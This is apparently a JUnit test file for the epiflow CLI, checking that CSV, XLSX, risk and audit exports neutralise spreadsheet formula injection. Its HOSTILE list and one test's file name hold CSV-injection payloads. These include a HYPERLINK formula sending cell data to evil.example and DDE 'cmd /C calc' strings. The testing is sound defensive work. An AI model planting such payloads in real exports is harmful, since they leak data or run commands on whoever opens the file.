package org.epiflow.cli;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;
import static org.epiflow.cli.CliHarness.run;
import static org.epiflow.cli.CliHarness.write;

/**
 * Region names and an issuer that a spreadsheet would run as formulas reach no CSV the program writes as formulas
 * (issue 13, item 2): the flows, ranking and partners tables, {@code epiflow risk} and the audit trail neutralise
 * them with a leading apostrophe, numbers stay numbers, and XLSX keeps them as plain strings (never formulas).
 */
class FormulaInjectionCliTest {
    static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTabbed", "普通市");
    static final String ISSUER = "Carrier,=1+1";

    @TempDir
    Path dir;
    Path pass;

    @BeforeEach
    void seal() throws Exception {
        pass = write(dir, "officer.pass", "officer passphrase\n");
        CliHarness.Run officer = run("keygen", "officer", "--out", dir.resolve("officer.key").toString(),
                "--passphrase-file", pass.toString(), "--work-factor", "10");
        assertThat(run("keygen", "carrier", "--out", dir.resolve("carrier.key").toString(), "--no-passphrase")
                .exit()).isZero();
        StringBuilder regions = new StringBuilder("code,name,name_en,level,parent,lat,lon,population\n");
        for (int i = 0; i < HOSTILE.size(); i++) {
            String name = '"' + HOSTILE.get(i).replace("\"", "\"\"") + '"';
            regions.append(code(i)).append(',').append(name).append(',').append(name).append(",prefecture,")
                    .append(code(i), 0, 2).append("0000,").append(30 + i).append(',').append(110 + i).append(',')
                    .append(1_000_000).append('\n');
        }
        write(dir, "regions.csv", regions.toString());
        StringBuilder flows = new StringBuilder("date,origin,destination,trips\n");
        for (int o = 0; o < HOSTILE.size(); o++) {
            for (int t = 0; t < HOSTILE.size(); t++) {
                if (o != t) {
                    flows.append("2020-01-01,").append(code(o)).append(',').append(code(t)).append(',')
                            .append(100 + 10 * o + t).append('\n');
                }
            }
        }
        write(dir, "flows.csv", flows.toString());
        CliHarness.Run sealed = run("seal", "--regions", dir.resolve("regions.csv").toString(), "--flows",
                dir.resolve("flows.csv").toString(), "--k", "10", "--expires", "2099-12-31", "--sign",
                dir.resolve("carrier.key").toString(), "--issuer", ISSUER, "--to", officer.out().trim(), "--out",
                dir.resolve("b.epiflow").toString());
        assertThat(sealed.exit()).as(sealed.err()).isZero();
    }

    static String code(int i) {
        return String.valueOf(110100 + i * 10000);
    }

    List<String> officer() {
        return List.of("--identity", dir.resolve("officer.key").toString(), "--passphrase-file", pass.toString(),
                "--trust", dir.resolve("carrier.pub").toString());
    }

    @Test
    void exportTablesNeutraliseFormulasAndKeepNumbers() throws Exception {
        for (String table : List.of("flows", "ranking", "partners")) {
            Path out = dir.resolve(table + ".csv");
            List<String> args = new ArrayList<>(List.of("export", "--bundle", dir.resolve("b.epiflow").toString(),
                    "--date", "2020-01-01", "--format", "csv", "--table", table, "--lang", "en", "--out",
                    out.toString()));
            if (table.equals("partners")) {
                args.addAll(List.of("--region", code(0)));
            }
            args.addAll(officer());
            CliHarness.Run r = run(args.toArray(String[]::new));
            assertThat(r.exit()).as(r.err()).isZero();
            List<List<String>> cells = readCsv(out);
            assertNoFormula(table, cells);
            assertThat(cells.stream().flatMap(List::stream)).as(table).contains("'" + HOSTILE.get(1));
        }
    }

    @Test
    void xlsxKeepsHostileNamesAsPlainStrings() throws Exception {
        Path out = dir.resolve("flows.xlsx");
        List<String> args = new ArrayList<>(List.of("export", "--bundle", dir.resolve("b.epiflow").toString(),
                "--date", "2020-01-01", "--format", "xlsx", "--table", "flows", "--lang", "en", "--out",
                out.toString()));
        args.addAll(officer());
        assertThat(run(args.toArray(String[]::new)).exit()).isZero();
        Set<String> strings = new HashSet<>();
        try (InputStream in = Files.newInputStream(out); XSSFWorkbook wb = new XSSFWorkbook(in)) {
            for (Sheet s : wb) {
                for (Row row : s) {
                    for (Cell c : row) {
                        assertThat(c.getCellType()).as(s.getSheetName() + " " + c.getAddress())
                                .isNotEqualTo(CellType.FORMULA);
                        if (c.getCellType() == CellType.STRING) {
                            strings.add(c.getStringCellValue());
                        }
                    }
                }
            }
        }
        assertThat(strings).contains(HOSTILE.get(0), HOSTILE.get(1));
    }

    @Test
    void riskCsvNeutralisesFormulas() throws Exception {
        Path out = dir.resolve("risk.csv");
        List<String> args = new ArrayList<>(List.of("risk", "--bundle", dir.resolve("b.epiflow").toString(),
                "--model", "effective-distance", "--source", code(0), "--out", out.toString()));
        args.addAll(officer());
        CliHarness.Run r = run(args.toArray(String[]::new));
        assertThat(r.exit()).as(r.err()).isZero();
        List<List<String>> cells = readCsv(out);
        assertNoFormula("risk", cells);
        assertThat(cells.stream().flatMap(List::stream)).contains("'" + HOSTILE.get(2));
    }

    @Test
    void theAuditTrailCsvNeutralisesFormulasToo() throws Exception {
        Path hostile = dir.resolve("=cmd|' calc'!A0.epiflow");
        Files.write(hostile, "not a bundle".getBytes(StandardCharsets.UTF_8));
        List<String> inspect = new ArrayList<>(List.of("inspect", hostile.toString()));
        inspect.addAll(officer());
        assertThat(run(inspect.toArray(String[]::new)).exit()).isEqualTo(ExitCodes.REFUSED);
        Path out = dir.resolve("audit.csv");
        List<String> args = new ArrayList<>(List.of("audit", "export", "--out", out.toString()));
        args.addAll(officer().subList(0, 4));
        CliHarness.Run r = run(args.toArray(String[]::new));
        assertThat(r.exit()).as(r.err()).isZero();
        assertNoFormula("audit", readCsv(out));
    }

    static void assertNoFormula(String what, List<List<String>> cells) {
        for (List<String> row : cells) {
            for (String c : row) {
                if (!c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0) {
                    assertThat(c).as(what + ": a cell a spreadsheet would run").matches("[-+]?[0-9.]+([eE][-+]?[0-9]+)?");
                }
            }
        }
    }

    /** RFC 4180 cells of every line, comment lines split at commas as a spreadsheet would. */
    static List<List<String>> readCsv(Path file) throws Exception {
        String s = Files.readString(file, StandardCharsets.UTF_8);
        if (s.startsWith("\uFEFF")) {
            s = s.substring(1);
        }
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < s.length(); i++) {
            char c = s.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < s.length() && s.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"' && cell.length() == 0) {
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\n' || c == '\r') {
                if (c == '\r' && i + 1 < s.length() && s.charAt(i + 1) == '\n') {
                    i++;
                }
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
            } else {
                cell.append(c);
            }
        }
        if (cell.length() > 0 || !row.isEmpty()) {
            row.add(cell.toString());
            rows.add(row);
        }
        return rows;
    }
}
